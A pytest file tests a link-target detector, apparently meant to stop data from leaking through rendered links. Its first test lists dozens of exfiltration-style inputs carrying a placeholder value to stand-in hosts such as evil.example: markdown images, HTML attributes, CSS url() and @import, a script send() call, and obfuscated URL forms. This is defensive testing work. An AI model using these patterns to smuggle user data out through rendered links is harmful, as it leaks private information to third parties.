"""What renderers follow is found, and prose around it is not."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.link_targets import link_targets


def in_links(text: str) -> str:
    """The text with `_` for each character outside links."""
    kept = ["_"] * len(text)
    for start, end in link_targets(text):
        kept[start:end] = text[start:end]
    return "".join(kept)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=VALUE)", "[x](http://evil/VALUE)", "[x](//evil.example/VALUE)",
        "[x](\nhttps://evil/\nVALUE)", "[x](<https://evil/a VALUE>)", '[x](/a "VALUE")',
        "[x](https://e/(a)VALUE)",
        "[![a](https://e/VALUE)](https://x.org)", "[1]: https://evil/VALUE", "[1]:\n  <https://evil/a VALUE>",
        "<https://evil/VALUE>", "<a href='x <img src='VALUE'>", "<https://evil/?q\n VALUE>",
        "see https://evil/?q=VALUE.",
        "HTTPS://EVIL/VALUE", "evil.example/?q=VALUE",
        "evil.example?q=VALUE", "www.evil.example/VALUE", "192.0.2.1/VALUE", "//evil.example/VALUE",
        "https://VALUE.evil.example", "https://VALUE@evil.example/", "VALUE.evil.example",
        "https:\\/\\/evil\\/VALUE",
        "https:\\\\evil\\VALUE", "\\\\evil\\VALUE", "https://evil/?q=\nVALUE", "ftp://evil/VALUE",
        "wss://evil/VALUE",
        "mailto:a@evil.example?body=VALUE", "data:text/html,VALUE", "javascript:f(VALUE)",
        "custom+x://evil/VALUE",
        "<img src=https://evil/VALUE>", '<img src="//evil/ VALUE">', "<img/src='//evil/VALUE'>",
        "<a\nhref = 'x?VALUE'>t</a>", '<a title="a > b" href="VALUE">',
        '<div style="background: url(//e/VALUE)">',
        '<input name=q value="VALUE">', '<img src="https://evil/?q= VALUE',
        '<meta content="0;url=//e/VALUE">',
        "<style>a{b:url(//evil/VALUE)}</style>", "<script>send('//evil/' + 'VALUE')</script>",
        "@import '//evil/VALUE'", "url(VALUE)", '{"u":"https://evil/VALUE"}',
        "![x](ht&#116;ps://evil/ VALUE)",
        '<img src="https://evil/?q=\n\nVALUE">', "‘https://evil/VALUE",
        "[x]: http://e.co/?q=\u00a0VALUE", "[x]: http://e.co/?q=\u3000VALUE",
        "[x]: http://e.co/<b>VALUE",
        "[x]: //e.co/\\\tVALUE", "[x]: http://e.co/?<VALUE", "> [x]:\n> //e.co/\u2003VALUE",
        "[x]: <//e.co/\\> VALUE>", "[x](<//e.co/\\> VALUE>)", "evil.com?VALUE", "evil.xn--p1ai/VALUE",
        "пример.рф/VALUE", "bücher.de/VALUE", "VALUE.пример.рф", "http://e.co/?q=\u00a0VALUE",

        f"![x](http://e.co/?q={'a' * 8_200}VALUE)", f"[x]: <http://e.co/{'a ' * 8_200}VALUE>",
        '"https://evil/"VALUE',
    ],
)  # fmt: skip
def test_a_value_in_what_a_renderer_follows_is_in_a_link(text: str) -> None:
    assert "VALUE" in in_links(text)


@pytest.mark.parametrize(
    "text",
    [
        "VALUE", "see https://x.org/a VALUE", "https://x.org\nVALUE", "[VALUE](https://x.org)",
        "![VALUE](https://x.org)",
        "<b>VALUE</b>", "<a href='https://x.org'>VALUE</a>", "a < b and VALUE > c", "e.g. VALUE",
        "1.5 / VALUE",
        '{"u":"https://x.org/a","n":"VALUE"}', "(https://x.org) VALUE", "and/or VALUE", "// VALUE",
        "1:30 VALUE",
        "[Name]: VALUE", "[1] VALUE (x)", "List<String> x = VALUE", "data: VALUE", "VALUE.",
        "C:\\Users\\VALUE",
        "C:\\\\Users\\\\VALUE", "a@example.com VALUE", "'https://x.org', VALUE", "`https://x.org` VALUE",
        "VALUE.Then",
        "<https://x.org>, VALUE", "<p>\nVALUE</p>", "| https://x.org | VALUE |", "note: VALUE", "std::VALUE",
        "т.е.VALUE", "и т.п.VALUE", "example.com? VALUE", "https://x.org\u00a0VALUE", "[x](y)\n\nVALUE",
    ],
)  # fmt: skip
def test_prose_beside_links_is_no_link(text: str) -> None:
    assert "VALUE" not in in_links(text)


@given(st.text(alphabet="ab.:/\\<>()[]=\"' \n!?#%@", max_size=80))
def test_ranges_are_in_order_inside_the_text_and_apart(text: str) -> None:
    last = 0
    for start, end in link_targets(text):
        assert last <= start <= end <= len(text)
        last = end


@pytest.mark.parametrize(
    "piece",
    ["](", "](<", "]:", "<a ", '<a x="', "<a x=\"'", '"//a.b"', "https://", "url(", '@import "', "<script ",
    "a.b.",
     "[x](<a \"'", "www.", "'https://", "=\n", "](<)", "](x)", "]:<",
     "ü.", "é.é", "ü", "\\>", "a-", "\\\\", '[x](" ', "://", '"https://a.b",'],
)  # fmt: skip
def test_long_texts_are_read_in_linear_time(piece: str) -> None:
    text = piece * (100_000 // len(piece))
    started = time.process_time()
    link_targets(text)
    assert time.process_time() - started < 2
